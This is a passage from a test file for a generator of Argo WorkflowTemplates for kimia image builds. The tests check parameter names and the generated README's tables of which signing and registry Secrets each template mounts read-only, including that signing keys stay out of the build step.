    expect(names(sample.spec.arguments.parameters)).toEqual(['IMAGE', 'DOCKERFILE', 'CONTEXT', 'BUILDER_IMAGE', 'GIT_URL', 'GIT_REVISION', 'REGISTRY_SECRET']);
  });
  it('documents parameters, outputs, secrets, security and usage', () => {
    const readme = files.get(`${dir}/README.md`)!;
    for (const s of ['## Parameters', '## Outputs', '## Secrets it expects', '## Security', '## Usage', 'argo submit --from workflowtemplate/kimia-build', 'templateRef']) expect(readme).toContain(s);
    // Read off the rendered templates: every Secret any template mounts or reads, and where.
    // signing.in: isolated: only the sign template reads the key and the password, both as files.
    expect(readme).toContain('| cosign-keys | cosign.key | mounted read-only at /secrets/ in `sign` |');
    expect(readme).toContain('| cosign-keys | cosign.password | mounted read-only at /etc/kimia/cosign-password/ in `sign` |');
    expect(readme).not.toMatch(/cosign-keys .* in `build`/);
    expect(readme).toContain('| cosign-keys | cosign.pub | mounted read-only at /etc/kimia/cosign-pub/ in `verify` |');
  });
  it('lists a Secret once per way it is used, with every template that uses it that way', () => {
    const multi = renderBundle(examples, { builds: ['myapp-multiarch'] });
    const readme = multi.get([...multi.keys()].find((f) => /^argo\/workflowtemplate\/myapp-multiarch\/[^/]+\/README\.md$/.test(f))!)!;
    expect(readme).toContain('| registry-credentials (parameter REGISTRY_SECRET) | .dockerconfigjson | mounted read-only at /home/kimia/.docker/config.json in `build` |');
    expect(readme).toContain('| registry-credentials (parameter REGISTRY_SECRET) | .dockerconfigjson | mounted read-only at /etc/kimia/docker/ in `index`, `sign`, `verify` |');
  });
});
